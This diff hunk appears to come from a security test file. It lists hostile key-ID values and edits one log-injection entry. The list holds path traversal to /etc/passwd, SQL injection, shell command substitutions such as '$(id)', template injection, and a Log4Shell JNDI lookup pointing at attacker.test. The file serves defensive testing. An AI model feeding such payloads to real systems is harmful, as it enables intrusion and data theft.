@@ -147,7 +147,7 @@ KIDS = [
         f"{KEY.kid}*", "../../../../etc/passwd", "/dev/null", "file:///dev/null", "C:\\Windows\\win.ini",
         "https://attacker.test/k", "' OR '1'='1", "x' UNION SELECT 'secret';--", "1; DROP TABLE keys",
         "|/bin/id", "$(id)", "`id`", "{{7*7}}", "${jndi:ldap://attacker.test/a}", "%s%s%n", "{0}",
-        "__proto__", "constructor", "0", "*", "null", "line\nend", "line\r\nend: reason=expired provider=x", "\x1b[2J",
+        "__proto__", "constructor", "0", "*", "null", "line\nend", "end\r\n: reason=expired", "\x1b[2J",
         "\x07\x08", "\0", "\u202e", "\U0001f511", "\N{LINE SEPARATOR}", "x" * 512, "\U0001f511" * 512,
     ),
 ]  # fmt: skip
